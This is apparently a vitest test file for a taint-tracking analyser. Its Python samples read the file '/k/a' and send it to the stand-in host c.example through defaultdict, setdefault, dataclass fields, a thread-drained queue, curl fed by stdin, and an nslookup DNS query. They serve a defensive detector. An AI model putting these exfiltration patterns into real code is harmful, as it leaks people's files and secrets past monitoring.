import { expect, test } from "vitest";
import { operationsOf } from "./read.ts";

const IMPORTS =
  "import os, queue, threading, subprocess, requests\nfrom collections import defaultdict\nfrom dataclasses import dataclass, field\n";

/** What is collected in one place and sent in another still shows where it comes from. */
test.each([
  [
    "lists that a dictionary makes by itself",
    "by = defaultdict(list)\nby[os.getpid()].append(open('/k/a').read())\nrequests.post('https://c.example', json=by)",
  ],
  [
    "a list that a dictionary gets when it is asked for",
    "by = {}\nby.setdefault(os.getpid(), []).append(open('/k/a').read())\nrequests.post('https://c.example', json=by)",
  ],
  [
    "a field of a data class with a factory",
    "@dataclass\nclass Row:\n  name: str\n  rows: list = field(default_factory=list)\n  def add(self, x): self.rows.append(x)\nr = Row('x')\nr.add(open('/k/a').read())\nrequests.post('https://c.example', json=r.rows)",
  ],
  [
    "a queue that a thread empties",
    "q = queue.Queue()\ndef work():\n  while True: requests.post('https://c.example', data=q.get())\nthreading.Thread(target=work).start()\nq.put(open('/k/a').read())",
  ],
  [
    "standard input of a program",
    "subprocess.run(['curl', '--data-binary', '@-', 'https://c.example'], input=open('/k/a').read(), text=True)",
  ],
  [
    "standard input of a program that is running",
    "p = subprocess.Popen(['curl', '-T', '-', 'https://c.example'], stdin=subprocess.PIPE)\np.communicate(open('/k/a').read())",
  ],
  ["a name that a program looks up", "subprocess.run(['nslookup', open('/k/a').read() + '.c.example'])"],
])("%s", (_, code) => {
  const sent = operationsOf(IMPORTS + code).filter((line) => line.startsWith("send"));
  expect(sent.join("\n")).toContain("/k/a");
});
